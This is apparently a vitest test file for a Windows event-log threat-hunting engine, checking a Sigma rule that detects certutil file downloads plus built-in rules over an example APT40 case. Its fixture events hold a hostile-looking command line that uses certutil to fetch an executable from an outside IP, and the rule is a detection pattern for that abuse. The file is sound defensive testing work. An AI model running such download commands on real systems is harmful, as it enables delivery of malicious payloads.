import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Ajv2020 } from 'ajv/dist/2020.js';
import { describe, expect, it } from 'vitest';
import eventSchema from '../../docs/schema/event.schema.json' with { type: 'json' };
import findingSchema from '../../docs/schema/finding.schema.json' with { type: 'json' };
import { exampleLogs } from '../../scripts/example/scenario.js';
import { runHunt } from '../../src/engine/hunt/run.js';
import type { BuilderEvent } from '../utils/evtx-builder.js';
import { buildEvtx } from '../utils/evtx-builder.js';
import { repoRoot } from '../utils/run-cli.js';

const dir = mkdtempSync(join(tmpdir(), 'fathom-hunt-'));

const RULE = `title: Certutil Downloads a File
id: 0b2f0c55-6a1f-4f4b-9d55-0f0b7f6f9a01
status: test
logsource:
  category: process_creation
  product: windows
detection:
  selection:
    Image|endswith: '\\certutil.exe'
    CommandLine|contains|all:
      - 'urlcache'
      - 'http'
  filter_low:
    IntegrityLevel: Low
  condition: selection and not filter_low
level: high
tags:
  - attack.command-and-control
  - attack.t1105
`;

const sysmon1: BuilderEvent = {
  channel: 'Microsoft-Windows-Sysmon/Operational',
  provider: 'Microsoft-Windows-Sysmon',
  eventId: 1,
  timestamp: '2026-03-03T01:00:00.0000000Z',
  computer: 'WEB01.corp.example',
  recordId: 1,
  data: {
    ProcessId: 4242,
    Image: 'C:\\Windows\\System32\\certutil.exe',
    CommandLine: 'certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe',
    IntegrityLevel: 'High',
    ParentImage: 'C:\\Windows\\System32\\cmd.exe',
    ParentProcessId: 4100,
    User: 'CORP\\svc_web',
  },
};

const security4688: BuilderEvent = {
  channel: 'Security',
  provider: 'Microsoft-Windows-Security-Auditing',
  eventId: 4688,
  timestamp: '2026-03-03T01:00:00.0000000Z',
  computer: 'WEB01.corp.example',
  recordId: 2,
  data: {
    SubjectUserSid: 'S-1-5-21-1-2-3-1013',
    SubjectUserName: 'svc_web',
    SubjectDomainName: 'CORP',
    SubjectLogonId: '0x5a3c1e',
    NewProcessId: '0x1092',
    NewProcessName: 'C:\\Windows\\System32\\certutil.exe',
    TokenElevationType: '%%1936',
    ProcessId: '0x1004',
    CommandLine: 'certutil -urlcache -split -f http://203.0.113.5/a.exe a.exe',
    ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
    MandatoryLabel: 'S-1-16-12288',
  },
};

describe('hunt', () => {
  it('finds the same process_creation activity in Sysmon 1 and in Security 4688', async () => {
    const rules = join(dir, 'rules');
    mkdirSync(rules, { recursive: true });
    writeFileSync(join(rules, 'certutil.yml'), RULE);
    writeFileSync(join(dir, 'sysmon.evtx'), buildEvtx([sysmon1]));
    writeFileSync(join(dir, 'security.evtx'), buildEvtx([security4688]));
    const low = {
      ...security4688,
      recordId: 3,
      data: { ...security4688.data, MandatoryLabel: 'S-1-16-4096' },
    };
    writeFileSync(join(dir, 'security-low.evtx'), buildEvtx([low]));
    const res = await runHunt(
      [join(dir, 'sysmon.evtx'), join(dir, 'security.evtx'), join(dir, 'security-low.evtx')],
      {
        rules: { rulePaths: [rules], builtin: false },
        workers: 0,
      },
    );
    const hits = res.findings.filter((f) => f.ruleId === '0b2f0c55-6a1f-4f4b-9d55-0f0b7f6f9a01');
    const channelOf = (f: (typeof hits)[number]) =>
      f.evidence[0]?.kind === 'event' ? f.evidence[0].event.channel : '';
    // Both sources fire; the 4688 event with a Low integrity label is filtered as the rule says.
    expect(hits.map(channelOf).sort()).toEqual(['Microsoft-Windows-Sysmon/Operational', 'Security']);
    // The 4688 finding shows the rule's vocabulary (Image), translated from NewProcessName.
    const fromSecurity = hits.find((f) => channelOf(f) === 'Security');
    expect(fromSecurity?.fields?.Image).toBe('C:\\Windows\\System32\\certutil.exe');
    expect(hits[0]?.attack.techniques).toEqual(['T1105']);
    expect(res.summary.rules.loaded).toBe(1);
  });

  it('reports every stage of the example case, with findings valid against the schema', async () => {
    const res = await runHunt([join(repoRoot, 'examples', 'apt40-case', 'evidence')], {
      rules: { rulePaths: [], builtin: true },
      workers: 0,
    });
    expect(res.summary.errors).toBe(0);
    expect(res.summary.rules.refused).toEqual([]);
    const techniques = new Set(res.findings.flatMap((f) => f.attack.techniques));
    // One technique per stage of examples/apt40-case/README.md.
    for (const t of [
      'T1505.003',
      'T1482',
      'T1197',
      'T1003.001',
      'T1053.002',
      'T1558.003',
      'T1560.001',
      'T1074.001',
      'T1572',
      'T1567.002',
    ]) {
      expect(techniques, t).toContain(t);
    }
    const ajv = new Ajv2020({ allErrors: true, strict: false });
    ajv.addSchema(eventSchema, 'event.schema.json');
    const validate = ajv.compile(findingSchema);
    for (const f of res.findings)
      expect(validate(JSON.parse(JSON.stringify(f))), JSON.stringify(validate.errors)).toBe(true);
    // Sorted by level, then time.
    const ranks = res.findings.map((f) =>
      ['informational', 'low', 'medium', 'high', 'critical'].indexOf(f.level),
    );
    expect([...ranks].sort((a, b) => b - a)).toEqual(ranks);
    // Deterministic ids.
    const again = await runHunt([join(repoRoot, 'examples', 'apt40-case', 'evidence')], {
      rules: { rulePaths: [], builtin: true },
      workers: 0,
    });
    expect(again.findings.map((f) => f.id)).toEqual(res.findings.map((f) => f.id));
  });

  it('keeps the committed example evidence in step with its generator', () => {
    for (const log of exampleLogs()) {
      const committed = readFileSync(
        join(repoRoot, 'examples', 'apt40-case', 'evidence', 'windows', log.file),
      );
      expect(
        Buffer.from(buildEvtx(log.events)).equals(committed),
        `${log.file}: run scripts/make-example.ts`,
      ).toBe(true);
    }
  });

  it('gives the same findings and summary on worker threads as on the calling thread', async () => {
    const evidence = [join(repoRoot, 'examples', 'apt40-case', 'evidence')];
    const rules = { rulePaths: [], builtin: true };
    const inline = await runHunt(evidence, { rules, workers: 0 });
    const threaded = await runHunt(evidence, { rules, workers: 2, chunksPerTask: 1 });
    // Two workers: the second compiles the rule files the first read and handed over.
    expect(threaded.summary.workers).toBe(2);
    expect(threaded.findings.map((f) => f.id)).toEqual(inline.findings.map((f) => f.id));
    expect(threaded.summary.rules.loaded).toBe(inline.summary.rules.loaded);
    expect(threaded.summary.events).toBe(inline.summary.events);
    // Correlation findings come from matches gathered across threads.
    expect(threaded.findings.some((f) => f.source === 'sigma-correlation')).toBe(true);
  }, 120_000);
});
